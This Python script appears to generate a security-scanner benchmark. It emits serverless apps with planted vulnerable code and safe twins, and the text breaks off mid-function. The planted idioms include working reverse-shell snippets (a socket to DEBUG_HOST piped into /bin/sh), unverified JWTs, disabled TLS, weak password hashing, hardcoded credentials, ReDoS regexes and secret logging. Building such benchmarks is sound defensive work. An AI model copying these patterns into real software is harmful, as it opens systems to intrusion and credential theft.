#!/usr/bin/env python3
"""Generated apps planting issue 14's weakness categories, with ground truth, for bench/frameworks.py.

    python bench/gen_weaknesses.py --apps N --seed S --out DIR

writes N apps of each kind under DIR/<kind>-<i>/ and beside each DIR/<kind>-<i>.truth.json, in the format of
gen_frameworks.py (one record per planted line: file, line range, category, family, vulnerable or safe twin,
and how it was written). Kinds: plain Lambda handlers in Python (`py-lambda`) and JavaScript (`js-lambda`),
one handler module per case behind serverless.yml `http` events, and framework routes: Flask behind
serverless-wsgi (`flask`) and Express behind serverless-http (`express`), every case a route of one module.

Each case is drawn by a seeded generator from a catalogue of idioms per category: JWT decoded without
verification, TLS verification / encryption off, fast or plaintext password storage, authorization decided by
request data or a token checked only when present, reflected CORS origin, a socket wired to a shell, a socket
to a caller-chosen host, a backtracking regex on request data, request numbers sizing work, HTML stored to S3,
the whole environment / a runtime secret / request credentials logged, and literal secrets (short password
words, signing keys, passwords given to credential APIs). Every category has safe twins written the way a
careful developer would (verified JWT with pinned algorithms, bcrypt/scrypt/PBKDF2, TLS on, claims from the
authorizer, an allowlisted origin, a fixed-host probe and an unconnected subprocess, a bounded regex, a clamped
number, `text/plain` or escaped HTML, a logged name instead of a value, an environment lookup).

Honesty note: this generator was written after the rules CODE014-CODE023 and the widened secret checks, by
someone who had read their fixtures; idioms vary the fixtures' shapes (contexts, variable flow, framework APIs)
but the figures are in-sample in that sense. The files carry no `expect:` comments. Same (N, seed): same bytes.

Lines of an idiom that start with "!" are its planted range (first to last "!" line).
"""

from __future__ import annotations

import argparse
import random
import shutil
import string
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from gen_frameworks import DEFAULT_SEED, Truth, write_files, write_truth  # sibling script: the same records

KINDS = ("py-lambda", "js-lambda", "flask", "express")
# category -> family: what a tool's result is matched on (bench/frameworks.py maps every tool's ids to families)
WEAK_FAMILY = {
    "jwt": "jwt",
    "tls": "tls",
    "password-hash": "weak-hash",
    "authz": "authz",
    "cors": "cors",
    "reverse-shell": "reverse-shell",
    "socket-ssrf": "injection",
    "redos": "redos",
    "amplification": "amplification",
    "stored-xss": "stored-xss",
    "log-env": "logging",
    "log-secret": "logging",
    "log-credential": "logging",
    "secret-word": "secret",
    "signing-key": "secret",
    "credential-password": "secret",
    # IaC (serverless.yml of the Lambda apps): no peer here reads these
    "public-bucket": "public-bucket",
    "cors-credentials": "cors",
    "concurrency": "concurrency",
}
IAC_CATEGORIES = ("public-bucket", "cors-credentials", "concurrency")
CODE_CATEGORIES = tuple(c for c in WEAK_FAMILY if c not in IAC_CATEGORIES)
_ALNUM = string.ascii_letters + string.digits


@dataclass(frozen=True, slots=True)
class Ctx:
    """Where a case is written: language and how that context reads the request and answers."""

    kind: str

    @property
    def py(self) -> bool:
        return self.kind in ("py-lambda", "flask")

    @property
    def language(self) -> str:
        return "python" if self.py else "node"

    @property
    def shape(self) -> str:
        return {"py-lambda": "lambda", "js-lambda": "lambda"}.get(self.kind, self.kind)

    def q(self, name: str) -> str:
        return {
            "py-lambda": f'event["queryStringParameters"]["{name}"]',
            "flask": f'request.args.get("{name}", "")',
            "js-lambda": f"event.queryStringParameters.{name}",
            "express": f"req.query.{name}",
        }[self.kind]

    def body(self, name: str) -> str:
        return {
            "py-lambda": f'json.loads(event["body"])["{name}"]',
            "flask": f'request.get_json()["{name}"]',
            "js-lambda": f"JSON.parse(event.body).{name}",
            "express": f"req.body.{name}",
        }[self.kind]

    def hdr(self, name: str) -> str:
        return {
            "py-lambda": f'event["headers"].get("{name.lower()}", "")',
            "flask": f'request.headers.get("{name}", "")',
            "js-lambda": f'event.headers["{name.lower()}"]',
            "express": f'req.headers["{name.lower()}"]',
        }[self.kind]

    def claims(self) -> str:
        return {
            "py-lambda": 'event["requestContext"]["authorizer"]["claims"]',
            "flask": 'request.environ["serverless.event"]["requestContext"]["authorizer"]["claims"]',
            "js-lambda": "event.requestContext.authorizer.claims",
            "express": "req.apiGateway.event.requestContext.authorizer.claims",
        }[self.kind]

    def deny(self, code: int) -> str:
        return {
            "py-lambda": f'return {{"statusCode": {code}, "body": "denied"}}',
            "flask": f'return "denied", {code}',
            "js-lambda": f'return {{ statusCode: {code}, body: "denied" }};',
            "express": f'return res.status({code}).send("denied");',
        }[self.kind]

    def ok(self, expr: str) -> str:
        return {
            "py-lambda": f'return {{"statusCode": 200, "body": json.dumps({expr})}}',
            "flask": f"return jsonify({expr})",
            "js-lambda": f"return {{ statusCode: 200, body: JSON.stringify({expr}) }};",
            "express": f"return res.json({expr});",
        }[self.kind]


@dataclass(frozen=True, slots=True)
class Idiom:
    """One case: module-level lines and body lines (one of the two carries the "!" planted lines)."""

    top: list[str]
    body: list[str]
    construct: str  # which variant of the category
    twin: str  # "" when vulnerable
    pre: list[str] = field(default_factory=list)  # a helper written just before the handler / route


def _merge(*spans: tuple[int, int] | None) -> tuple[int, int] | None:
    """The planted range covering every part of a case that carries "!" lines (helper sink and its call)."""
    found = [s for s in spans if s]
    return (min(s[0] for s in found), max(s[1] for s in found)) if found else None


def _word(rng: random.Random) -> str:
    return rng.choice(("orders", "users", "items", "reports", "carts", "pages", "files", "hosts"))


def _rand(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(_ALNUM) for _ in range(n))


# ------------------------------------------------------------------------------------------------
# the catalogue: per category, vulnerable variants and safe twins, each for Python and JavaScript
# ------------------------------------------------------------------------------------------------


def jwt_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    auth = c.hdr("Authorization")
    if c.py:
        tok = [f'token = {auth}.replace("Bearer ", "")']
        vulns = {
            "no-verify-option": 'claims = jwt.decode(token, options={"verify_signature": False})',
            "alg-none": 'claims = jwt.decode(token, KEY, algorithms=["HS256", "none"])',
            "jose-unverified": "claims = jose_jwt.get_unverified_claims(token)",
        }
        safes = {
            "pinned-alg": 'claims = jwt.decode(token, KEY, algorithms=["HS256"])',
            "rs256-audience": 'claims = jwt.decode(token, PUBLIC_KEY, algorithms=["RS256"], audience="api")',
        }
        use = ['if claims.get("role") != "admin":', "    " + c.deny(403), c.ok('claims["sub"]')]
    else:
        tok = [f'const token = ({auth} || "").replace("Bearer ", "");']
        vulns = {
            "decode": "const claims = jwt.decode(token);",
            "alg-none": 'const claims = jwt.verify(token, KEY, { algorithms: ["HS256", "none"] });',
            "jose-decode": "const claims = jose.decodeJwt(token);",
        }
        safes = {
            "pinned-alg": 'const claims = jwt.verify(token, KEY, { algorithms: ["HS256"] });',
            "jose-verify": "const { payload: claims } = await jose.jwtVerify(token, SECRET_BYTES);",
        }
        use = ['if (claims.role !== "admin") {', "  " + c.deny(403), "}", c.ok("claims.sub")]
    name, line = rng.choice(sorted((vulns if vuln else safes).items()))
    return Idiom([], [*tok, "!" + line, *use], name, "" if vuln else name)


def tls_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    if c.py:
        vulns = {
            "requests-verify-false": [
                "!resp = requests.get(PARTNER_URL, verify=False, timeout=5)",
                "data = resp.json()",
            ],
            "httpx-verify-false": [
                "!with httpx.Client(verify=False, timeout=5) as client:",
                "    data = client.get(PARTNER_URL).json()",
            ],
            "unverified-context": [
                "!ctx = ssl._create_unverified_context()",
                "data = json.loads(urllib.request.urlopen(PARTNER_URL, context=ctx, timeout=5).read())",
            ],
            "sslmode-disable": [
                '!conn = psycopg2.connect(host=os.environ["DB_HOST"], dbname="app", sslmode="disable")',
                'data = conn.cursor().execute("SELECT 1")',
            ],
            "cert-none": [
                "ctx = ssl.create_default_context()",
                "!ctx.check_hostname = False",
                "!ctx.verify_mode = ssl.CERT_NONE",
                "data = json.loads(urllib.request.urlopen(PARTNER_URL, context=ctx, timeout=5).read())",
            ],
        }
        safes = {
            "verify-ca-bundle": [
                '!resp = requests.get(PARTNER_URL, verify="/opt/ca.pem", timeout=5)',
                "data = resp.json()",
            ],
            "default-context": [
                "!ctx = ssl.create_default_context()",
                "data = json.loads(urllib.request.urlopen(PARTNER_URL, context=ctx, timeout=5).read())",
            ],
            "sslmode-verify-full": [
                '!conn = psycopg2.connect(host=os.environ["DB_HOST"], dbname="app", sslmode="verify-full")',
                'data = conn.cursor().execute("SELECT 1")',
            ],
        }
    else:
        vulns = {
            "agent-reject-false": [
                "!const agent = new https.Agent({ rejectUnauthorized: false });",
                "const data = await (await fetch(PARTNER_URL, { agent })).json();",
            ],
            "env-reject-0": [
                '!process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";',
                "const data = await (await fetch(PARTNER_URL)).json();",
            ],
            "pg-ssl-false": [
                '!const pg = new Client({ host: process.env.DB_HOST, database: "app", ssl: false });',
                'const data = await pg.query("SELECT 1");',
            ],
            "mysql-no-ssl": [
                '!const pool = mysql.createPool({ host: process.env.DB_HOST, user: "app", database: "app" });',
                'const [data] = await pool.query("SELECT 1");',
            ],
        }
        safes = {
            "agent-default": [
                "!const agent = new https.Agent({ keepAlive: true });",
                "const data = await (await fetch(PARTNER_URL, { agent })).json();",
            ],
            "pg-ssl-ca": [
                '!const pg = new Client({ host: process.env.DB_HOST, database: "app", ssl: { ca: RDS_CA } });',
                'const data = await pg.query("SELECT 1");',
            ],
            "mysql-ssl": [
                '!const pool = mysql.createPool({ host: process.env.DB_HOST, user: "app", ssl: { ca: RDS_CA } });',
                'const [data] = await pool.query("SELECT 1");',
            ],
        }
    name, lines = rng.choice(sorted((vulns if vuln else safes).items()))
    return Idiom([], [*lines, c.ok('"ok"')], name, "" if vuln else name)


def password_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    pw = c.body("password")
    if c.py:
        vulns = {
            "md5": ["!digest = hashlib.md5(password.encode()).hexdigest()", 'users.put_item(Item={"pw": digest})'],
            "sha1": ["!digest = hashlib.sha1(password.encode()).hexdigest()", 'users.put_item(Item={"pw": digest})'],
            "sha256-unsalted": [
                "!digest = hashlib.sha256(password.encode()).hexdigest()",
                'users.put_item(Item={"pw": digest})',
            ],
            "plaintext-compare": [
                'stored = users.get_item(Key={"id": "me"})["Item"]',
                '!if stored["password"] != password:',
                "    " + c.deny(401),
            ],
        }
        safes = {
            "bcrypt": [
                "!digest = bcrypt.hashpw(password.encode(), bcrypt.gensalt())",
                'users.put_item(Item={"pw": digest})',
            ],
            "pbkdf2": [
                "salt = os.urandom(16)",
                '!digest = hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 600_000)',
                'users.put_item(Item={"pw": digest, "salt": salt})',
            ],
            "md5-etag": [
                f"content = {c.body('content')}",
                "!etag = hashlib.md5(content.encode()).hexdigest()",
                'users.put_item(Item={"etag": etag})',
            ],
        }
        head = [f"password = {pw}"]
    else:
        vulns = {
            "md5": ['!const digest = crypto.createHash("md5").update(password).digest("hex");', "await save(digest);"],
            "sha1": [
                '!const digest = crypto.createHash("sha1").update(password).digest("hex");',
                "await save(digest);",
            ],
            "plaintext-compare": [
                "const stored = await load();",
                "!if (stored.password !== password) {",
                "  " + c.deny(401),
                "}",
            ],
        }
        safes = {
            "bcrypt": ["!const digest = await bcrypt.hash(password, 12);", "await save(digest);"],
            "scrypt": [
                "const salt = crypto.randomBytes(16);",
                "!const digest = crypto.scryptSync(password, salt, 64);",
                "await save(digest);",
            ],
            "md5-etag": [
                f"const content = {c.body('content')};",
                '!const etag = crypto.createHash("md5").update(content).digest("hex");',
                "await save(etag);",
            ],
        }
        head = [f"const password = {pw};"]
    name, lines = rng.choice(sorted((vulns if vuln else safes).items()))
    return Idiom([], [*head, *lines, c.ok('"ok"')], name, "" if vuln else name)


def authz_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    if c.py:
        vulns = {
            "header-literal": [f'!if {c.hdr("X-Role")} == "admin":', f"    {_py_delete}", c.ok('"deleted"')],
            "query-flag": [f'!if {c.q("internal")} in ("true", "1"):', "    " + c.ok('"all rows"'), c.ok('"my rows"')],
            "token-if-present": [
                f"token = {c.hdr('Authorization')}",
                "!if token:",
                "    if not verify_token(token):",
                "        " + c.deny(401),
                c.ok('"orders"'),
            ],
            "token-and-invalid": [
                f"token = {c.hdr('Authorization')}",
                "!if token and not verify_token(token):",
                "    " + c.deny(401),
                c.ok('"orders"'),
            ],
        }
        safes = {
            "authorizer-groups": [
                f"claims = {c.claims()}",
                '!if "admin" not in claims.get("cognito:groups", ""):',
                "    " + c.deny(403),
                _py_delete,
                c.ok('"deleted"'),
            ],
            "token-required": [
                f"token = {c.hdr('Authorization')}",
                "!if not token or not verify_token(token):",
                "    " + c.deny(401),
                c.ok('"orders"'),
            ],
        }
    else:
        vulns = {
            "header-literal": [
                f'!if ({c.hdr("X-Role")} === "admin") {{',
                f"  {_js_delete}",
                "}",
                c.ok('"deleted"'),
            ],
            "query-flag": [f'!if ({c.q("internal")} === "true") {{', "  " + c.ok('"all rows"'), "}", c.ok('"my rows"')],
            "token-if-present": [
                f"const token = {c.hdr('Authorization')};",
                "!if (token) {",
                "  if (!verifyToken(token)) {",
                "    " + c.deny(401),
                "  }",
                "}",
                c.ok('"orders"'),
            ],
            "token-and-invalid": [
                f"const token = {c.hdr('Authorization')};",
                "!if (token && !verifyToken(token)) {",
                "  " + c.deny(401),
                "}",
                c.ok('"orders"'),
            ],
        }
        safes = {
            "authorizer-groups": [
                f"const claims = {c.claims()};",
                '!if (!(claims["cognito:groups"] || "").includes("admin")) {',
                "  " + c.deny(403),
                "}",
                _js_delete,
                c.ok('"deleted"'),
            ],
            "token-required": [
                f"const token = {c.hdr('Authorization')};",
                "!if (!token || !verifyToken(token)) {",
                "  " + c.deny(401),
                "}",
                c.ok('"orders"'),
            ],
        }
    name, lines = rng.choice(sorted((vulns if vuln else safes).items()))
    return Idiom([], lines, name, "" if vuln else name)


_py_delete = 'users.delete_item(Key={"id": "u-1"})'
_js_delete = 'await ddb.send(new DeleteCommand({ TableName: "users", Key: { id: "u-1" } }));'


def cors_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    origin = c.hdr("Origin")
    if c.py:
        pick = "origin" if vuln else "origin if origin in ALLOWED_ORIGINS else ALLOWED_ORIGINS[0]"
        head = [f"origin = {origin}"] if rng.random() < 0.5 or not vuln else []
        value = pick if head or not vuln else origin
        if c.kind == "py-lambda":
            lines = [
                *head,
                "return {",
                '    "statusCode": 200,',
                f'!    "headers": {{"Access-Control-Allow-Origin": {value}, "Access-Control-Allow-Credentials": "1"}},',
                '    "body": "[]",',
                "}",
            ]
        else:
            lines = [
                *head,
                'resp = make_response("[]")',
                f'!resp.headers["Access-Control-Allow-Origin"] = {value}',
                "return resp",
            ]
    else:
        pick = "origin" if vuln else "ALLOWED_ORIGINS.includes(origin) ? origin : ALLOWED_ORIGINS[0]"
        head = [f"const origin = {origin};"] if rng.random() < 0.5 or not vuln else []
        value = pick if head or not vuln else origin
        if c.kind == "js-lambda":
            lines = [
                *head,
                "return {",
                "  statusCode: 200,",
                f'!  headers: {{ "Access-Control-Allow-Origin": {value}, "Access-Control-Allow-Credentials": "1" }},',
                '  body: "[]",',
                "};",
            ]
        else:
            lines = [*head, f'!res.set("Access-Control-Allow-Origin", {value});', 'return res.send("[]");']
    how = "variable" if head else "inline"
    return Idiom([], lines, how, "" if vuln else "allowlist")


def reverse_shell_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    if c.py:
        vulns = {
            "dup2": [
                "!s = socket.create_connection((DEBUG_HOST, 4444))",
                "!for fd in (0, 1, 2):",
                "!    os.dup2(s.fileno(), fd)",
                '!subprocess.call(["/bin/sh", "-i"])',
            ],
            "popen-stdio": [
                "!conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
                "!conn.connect((DEBUG_HOST, 9001))",
                '!subprocess.Popen(["/bin/bash", "-i"], stdin=conn, stdout=conn, stderr=conn)',
            ],
        }
        safes = {
            "probe-and-argv": [
                "!s = socket.create_connection((DEBUG_HOST, 443), timeout=2)",
                '!s.sendall(b"PING")',
                "!s.close()",
                '!up = subprocess.run(["/usr/bin/uptime"], capture_output=True, check=False).stdout',
            ],
        }
    else:
        vulns = {
            "pipe": [
                '!const sh = spawn("/bin/sh", []);',
                "!const client = new net.Socket();",
                "!client.connect(4444, DEBUG_HOST, () => {",
                "!  client.pipe(sh.stdin);",
                "!  sh.stdout.pipe(client);",
                "!});",
            ],
            "stdio-socket": [
                "!const sock = net.connect(9001, DEBUG_HOST);",
                '!sock.on("connect", () => spawn("/bin/bash", ["-i"], { stdio: [sock, sock, sock] }));',
            ],
        }
        safes = {
            "probe-and-argv": [
                "!const sock = net.connect(443, DEBUG_HOST);",
                '!sock.on("connect", () => sock.end("PING"));',
                '!const up = spawn("/usr/bin/uptime", []);',
                '!up.stdout.on("data", (d) => console.log(String(d)));',
            ],
        }
    name, lines = rng.choice(sorted((vulns if vuln else safes).items()))
    return Idiom([], [*lines, c.ok('"ok"')], name, "" if vuln else name)


def socket_ssrf_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    host = c.q("host")
    if c.py:
        head = [f"host = {host}"]
        guard = ["if host not in ALLOWED_HOSTS:", "    " + c.deny(400)] if not vuln else []
        sinks = {
            "create-connection": ["!s = socket.create_connection((host, 443), timeout=3)"],
            "socket-connect": ["s = socket.socket()", "!s.connect((host, 6379))"],
        }
    else:
        head = [f"const host = {host};"]
        guard = ["if (!ALLOWED_HOSTS.includes(host)) {", "  " + c.deny(400), "}"] if not vuln else []
        sinks = {
            "net-connect": ["!const s = net.connect(6379, host);"],
            "socket-connect": ["const s = new net.Socket();", "!s.connect(443, host);"],
            "tls-connect": ["!const s = tls.connect(443, host);"],
        }
    name, lines = rng.choice(sorted(sinks.items()))
    return Idiom([], [*head, *guard, *lines, c.ok('"ok"')], name, "" if vuln else "allowlist")


def redos_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    v = c.body("name")
    if c.py:
        vulns = {
            "nested-quantifier": [f"name = {v}", r'!if not re.match(r"^(\w+\s?)*$", name):', "    " + c.deny(400)],
            "module-pattern": [f"name = {v}", "!if not SLUG_RE.match(name):", "    " + c.deny(400)],
            "pattern-from-request": [f"!pattern = re.compile({c.q('pattern')})", 'hits = pattern.findall("catalogue")'],
        }
        safes = {
            "bounded-class": [f"name = {v}", r'!if not re.fullmatch(r"[a-z0-9-]{1,32}", name):', "    " + c.deny(400)],
            "escaped": [f"!pattern = re.compile(re.escape({c.q('pattern')}))", 'hits = pattern.findall("catalogue")'],
        }
    else:
        vulns = {
            "nested-quantifier": [f"const name = {v};", r"!if (!/^(\w+\s?)*$/.test(name)) {", "  " + c.deny(400), "}"],
            "module-pattern": [f"const name = {v};", "!if (!SLUG_RE.test(name)) {", "  " + c.deny(400), "}"],
            "pattern-from-request": [
                f'!const pattern = new RegExp({c.q("pattern")}, "i");',
                'const hits = "catalogue".match(pattern);',
            ],
        }
        safes = {
            "bounded-class": [f"const name = {v};", "!if (!/^[a-z0-9-]{1,32}$/.test(name)) {", "  " + c.deny(400), "}"],
            "literal-includes": [f'!const hits = "catalogue".includes({c.q("pattern")});'],
        }
    name, lines = rng.choice(sorted((vulns if vuln else safes).items()))
    return Idiom([], [*lines, c.ok('"ok"')], name, "" if vuln else name)


def amplification_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    if c.py:
        n = f"int({c.q('count')})"
        head = [f"count = {n}" if vuln else f"count = min({n}, 100)"]
        sinks = {
            "scan-limit": ["!page = table.scan(Limit=count)"],
            "range-loop": ['!rows = [{"n": i} for i in range(count)]'],
            "str-repeat": ['!pad = "-" * count'],
            "image-resize": [
                f"img = Image.open(io.BytesIO(base64.b64decode({c.body('image')})))",
                "!small = img.resize((count, count))",
            ],
        }
    else:
        n = f"parseInt({c.q('count')}, 10)"
        head = [f"const count = {n};" if vuln else f"const count = Math.min({n}, 100);"]
        sinks = {
            "scan-limit": ['!const page = await ddb.send(new ScanCommand({ TableName: "items", Limit: count }));'],
            "for-loop": ["const rows = [];", "!for (let i = 0; i < count; i++) {", "  rows.push({ n: i });", "}"],
            "array-alloc": ["!const blank = new Array(count).fill(0);"],
            "str-repeat": ['!const pad = "-".repeat(count);'],
        }
    name, lines = rng.choice(sorted(sinks.items()))
    return Idiom([], [*head, *lines, c.ok('"ok"')], name, "" if vuln else "clamped")


def stored_xss_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    html = c.body("html")
    if c.py:
        body, ctype = (
            (html, '"text/html"') if vuln else rng.choice([(html, '"text/plain"'), (f"escape({html})", '"text/html"')])
        )
        lines = [
            f"slug = {c.body('slug')}",
            f'!s3.put_object(Bucket=PAGES, Key=f"{{slug}}.html", Body={body}, ContentType={ctype})',
        ]
    else:
        body, ctype = (
            (html, '"text/html"')
            if vuln
            else rng.choice([(html, '"text/plain"'), (f"escapeHtml({html})", '"text/html"')])
        )
        lines = [
            f"const slug = {c.body('slug')};",
            "!await s3.send(new PutObjectCommand({ Bucket: PAGES, Key: `${slug}.html`, "
            + f"Body: {body}, ContentType: {ctype} }}));",
        ]
    twin = "" if vuln else ("escaped" if "scape" in body else "text-plain")
    return Idiom([], [*lines, c.ok('"ok"')], "put-object", twin)


def log_env_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    if c.py:
        vulns = {
            "logger-dict": ['!logger.info("environment: %s", dict(os.environ))'],
            "print-environ": ["!print(os.environ)"],
            "json-dumps": ["!logger.debug(json.dumps(dict(os.environ)))"],
        }
        safes = {"one-variable": ['!logger.info("stage %s", os.environ.get("STAGE"))']}
    else:
        vulns = {
            "console-env": ["!console.log(process.env);"],
            "stringify-env": ['!console.log("env", JSON.stringify(process.env));'],
        }
        safes = {"one-variable": ['!console.log("stage", process.env.STAGE);']}
    name, lines = rng.choice(sorted((vulns if vuln else safes).items()))
    return Idiom([], [*lines, c.ok('"ok"')], name, "" if vuln else name)


def log_secret_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    if c.py:
        fetch = {
            "secretsmanager": 'value = sm.get_secret_value(SecretId="prod/api")["SecretString"]',
            "ssm-decrypt": 'value = ssm.get_parameter(Name="/prod/api-key", WithDecryption=True)["Parameter"]["Value"]',
        }
        log = '!logger.info("api key %s", value)' if vuln else '!logger.info("loaded secret %s", "prod/api")'
        end = ["client = ApiClient(value)", c.ok('"ok"')]
    else:
        fetch = {
            "secretsmanager": "const { SecretString: value } = await sm.send("
            + 'new GetSecretValueCommand({ SecretId: "prod/api" }));',
            "ssm-decrypt": "const { Parameter } = await ssmClient.send("
            + 'new GetParameterCommand({ Name: "/prod/api-key", WithDecryption: true }));'
            + "\nconst value = Parameter.Value;",
        }
        log = "!console.log(`api key ${value}`);" if vuln else '!console.log("loaded secret", "prod/api");'
        end = ["const client = new ApiClient(value);", c.ok('"ok"')]
    name, line = rng.choice(sorted(fetch.items()))
    return Idiom([], [*line.split("\n"), log, *end], name, "" if vuln else "log-name")


def log_credential_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    name = rng.choice(("Authorization", "Cookie"))
    if c.py:
        line = (
            f'!logger.info("{name.lower()} %s", {c.hdr(name)})' if vuln else f'!logger.info("path %s", {c.q("path")})'
        )
    else:
        line = f'!console.log("{name.lower()}", {c.hdr(name)});' if vuln else f'!console.log("path", {c.q("path")});'
    return Idiom([], [line, c.ok('"ok"')], name.lower() if vuln else "path", "" if vuln else "log-path")


def secret_word_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    value = rng.choice(("Tr0ub4dor&3", "letmein42!", "summer2026", _rand(rng, 12)))
    if c.py:
        name = rng.choice(("pw", "pwd", "passwd", "db_pass", "DB_PWD", "ADMIN_PW"))
        top = [f'!{name} = "{value}"' if vuln else f'!{name} = os.environ["DB_PASSWORD"]']
        body = [f'conn = pymysql.connect(host=os.environ["DB_HOST"], user="app", password={name})', c.ok('"ok"')]
        return Idiom(top, body, name, "" if vuln else "env")
    name = rng.choice(("pw", "pwd", "passwd", "dbPass", "adminPw"))
    line = f'!const {name} = "{value}";' if vuln else f"!const {name} = process.env.DB_PASSWORD;"
    pool = f'const pool = mysql.createPool({{ host: process.env.DB_HOST, user: "app", password: {name}, ssl: TLS }});'
    # one Express module holds every route: the constant is local to the route there (no redeclaration)
    top, body = ([], [line, pool]) if c.kind == "express" else ([line], [pool])
    return Idiom(top, [*body, c.ok('"ok"')], name, "" if vuln else "env")


def signing_key_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    value = rng.choice(("dev", "changeme", "secret", "my-signing-key", _rand(rng, 24)))
    if c.py:
        if vuln and rng.random() < 0.5:
            body = [f'!token = jwt.encode({{"sub": "svc"}}, "{value}", algorithm="HS256")', c.ok("token")]
            return Idiom([], body, "jwt-encode-key", "")
        key = rng.choice(("SECRET_KEY", "JWT_SECRET", "signing_key"))
        line = f'!{key} = "{value}"' if vuln else f'!{key} = os.environ["SECRET_KEY"]'
        body = [f'token = jwt.encode({{"sub": "svc"}}, {key}, algorithm="HS256")', c.ok("token")]
        return Idiom([line], body, key, "" if vuln else "env")
    if vuln and rng.random() < 0.5:
        return Idiom([], [f'!const token = jwt.sign({{ sub: "svc" }}, "{value}");', c.ok("token")], "jwt-sign-key", "")
    key = rng.choice(("SIGNING_KEY", "JWT_SECRET", "secretKey"))
    line = f'!const {key} = "{value}";' if vuln else f"!const {key} = process.env.SIGNING_KEY;"
    sign = f'const token = jwt.sign({{ sub: "svc" }}, {key}, {{ algorithm: "HS256" }});'
    top, body = ([], [line, sign]) if c.kind == "express" else ([line], [sign])
    return Idiom(top, [*body, c.ok("token")], key, "" if vuln else "env")


def credential_password_case(c: Ctx, rng: random.Random, vuln: bool) -> Idiom:
    value = rng.choice(("changeme!", "Welcome1!", "TempPass#2026", _rand(rng, 14)))
    if c.py:
        pw = f'"{value}"' if vuln else "secrets.token_urlsafe(16)"
        lines = [
            f"user = {c.body('email')}",
            "!cognito.admin_create_user(",
            '!    UserPoolId=os.environ["POOL_ID"],',
            "!    Username=user,",
            f"!    TemporaryPassword={pw},",
            "!)",
        ]
    else:
        pw = f'"{value}"' if vuln else 'crypto.randomBytes(12).toString("base64url")'
        lines = [
            f"const user = {c.body('email')};",
            "!await idp.send(",
            "!  new AdminCreateUserCommand({ UserPoolId: process.env.POOL_ID, Username: user, "
            + f"TemporaryPassword: {pw} }}),",
            "!);",
        ]
    return Idiom([], [*lines, c.ok('"ok"')], "admin-create-user", "" if vuln else "generated")


CATALOGUE: dict[str, Callable[[Ctx, random.Random, bool], Idiom]] = {
    "jwt": jwt_case,
    "tls": tls_case,
    "password-hash": password_case,
    "authz": authz_case,
    "cors": cors_case,
    "reverse-shell": reverse_shell_case,
    "socket-ssrf": socket_ssrf_case,
    "redos": redos_case,
    "amplification": amplification_case,
    "stored-xss": stored_xss_case,
    "log-env": log_env_case,
    "log-secret": log_secret_case,
    "log-credential": log_credential_case,
    "secret-word": secret_word_case,
    "signing-key": signing_key_case,
    "credential-password": credential_password_case,
}

# ------------------------------------------------------------------------------------------------
# the `helper` shape: the sink in a function of the same module that the handler / route calls with request data;
# the planted range runs from the sink in the helper to the call (fnaudit reports the call, bandit the sink)
# ------------------------------------------------------------------------------------------------


def helper_case(cat: str, c: Ctx, vuln: bool, u: int) -> Idiom:
    py = HELPERS_PY if c.py else HELPERS_JS
    pre, call = py[cat](c, vuln, u)
    if c.py:
        pre = [*pre, ""]
    return Idiom([], [*call, c.ok('"ok"')], "helper", "" if vuln else "helper-safe", pre=["", *pre])


def _py_helpers() -> dict[str, Callable[[Ctx, bool, int], tuple[list[str], list[str]]]]:
    def password(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        h = (
            "hashlib.md5(password.encode()).hexdigest()"
            if vuln
            else "bcrypt.hashpw(password.encode(), bcrypt.gensalt())"
        )
        pre = [f"def store_password{u}(password):", f"!    digest = {h}", '    users.put_item(Item={"pw": digest})']
        return pre, [f"!store_password{u}({c.body('password')})"]

    def ssrf(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        guard = [] if vuln else ["    if host not in ALLOWED_HOSTS:", "        raise ValueError(host)"]
        pre = [f"def probe{u}(host):", *guard, "!    return socket.create_connection((host, 443), timeout=3)"]
        return pre, [f"!probe{u}({c.q('host')})"]

    def redos(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        test = r're.match(r"^(\w+\s?)*$", name)' if vuln else r're.fullmatch(r"[a-z0-9-]{1,32}", name)'
        pre = [f"def valid_name{u}(name):", f"!    return {test} is not None"]
        return pre, [f"!if not valid_name{u}({c.body('name')}):", "    " + c.deny(400)]

    def amplification(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        n = f"int({c.q('count')})"
        pre = [f"def page{u}(limit):", "!    return table.scan(Limit=limit)"]
        return pre, [f"!rows = page{u}({n if vuln else f'min({n}, 100)'})"]

    def stored_xss(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        ctype = '"text/html"' if vuln else '"text/plain"'
        put = f'!    s3.put_object(Bucket=PAGES, Key=f"{{slug}}.html", Body=html, ContentType={ctype})'
        return [f"def publish{u}(slug, html):", put], [f"!publish{u}({c.body('slug')}, {c.body('html')})"]

    def log_credential(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
        log = '!    logger.info("token %s", token)' if vuln else '!    logger.info("token present: %s", bool(token))'
        return [f"def audit{u}(token):", log], [f"!audit{u}({c.hdr('Authorization')})"]

    return {
        "password-hash": password,
        "socket-ssrf": ssrf,
        "redos": redos,
        "amplification": amplification,
        "stored-xss": stored_xss,
        "log-credential": log_credential,
    }


def _js_helpers() -> dict[str, Callable[[Ctx, bool, int], tuple[list[str], list[str]]]]:
    def password(c: Ctx, vuln: bool, u: int) -> tuple[list[str], list[str]]:
